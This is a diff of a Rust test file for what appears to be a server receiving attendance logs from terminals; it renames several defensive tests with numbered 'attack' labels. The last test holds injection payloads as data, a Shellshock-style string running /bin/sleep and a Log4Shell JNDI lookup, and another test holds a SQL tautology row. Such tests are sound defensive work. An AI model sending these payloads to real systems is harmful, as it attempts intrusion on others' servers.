@@ -22,7 +22,7 @@ async fn scene(app: &TestApp) -> crate::testing::Api<'_> {
 }
 
 #[tokio::test]
-async fn no_value_of_a_person_becomes_another_field_or_command_of_a_terminal() {
+async fn attack_31_no_value_of_a_person_becomes_another_field_or_command_of_a_terminal() {
     on_both(|app| async move {
         let admin = scene(&app).await;
         let new = |name: &str, value: &str| {
@@ -68,7 +68,7 @@ async fn no_value_of_a_person_becomes_another_field_or_command_of_a_terminal() {
 }
 
 #[tokio::test]
-async fn a_terminal_ends_no_command_of_another_and_sends_nothing_for_it() {
+async fn attack_34_a_terminal_ends_no_command_of_another_and_sends_nothing_for_it() {
     on_both(|app| async move {
         let admin = scene(&app).await;
         for sn in ["GATE", "REAR"] {
@@ -110,7 +110,7 @@ async fn a_terminal_ends_no_command_of_another_and_sends_nothing_for_it() {
 }
 
 #[tokio::test]
-async fn sql_and_paths_from_a_terminal_are_text() {
+async fn attack_35_36_sql_and_paths_from_a_terminal_are_text() {
     on_both(|app| async move {
         let admin = scene(&app).await;
         let rows = "1 or 1=1\t2026-01-15 07:00:00\t0\t1\n\
@@ -143,7 +143,7 @@ async fn sql_and_paths_from_a_terminal_are_text() {
 }
 
 #[tokio::test]
-async fn what_a_terminal_sends_without_measure_is_taken_in_bounds() {
+async fn attack_35_what_a_terminal_sends_without_measure_is_taken_in_bounds() {
     on_both(|app| async move {
         scene(&app).await;
         let target = "/iclock/cdata?SN=GATE&table=ATTLOG&Stamp=1";
@@ -176,7 +176,7 @@ async fn what_a_terminal_sends_without_measure_is_taken_in_bounds() {
 }
 
 #[tokio::test]
-async fn what_a_program_calls_itself_does_nothing() {
+async fn attack_37_what_a_program_calls_itself_does_nothing() {
     on_both(|app| async move {
         scene(&app).await;
         for agent in ["() { _; } >_[$($())] { /bin/sleep 4; }", "${jndi:ldap://x/}", "\u{1b}[2J"] {
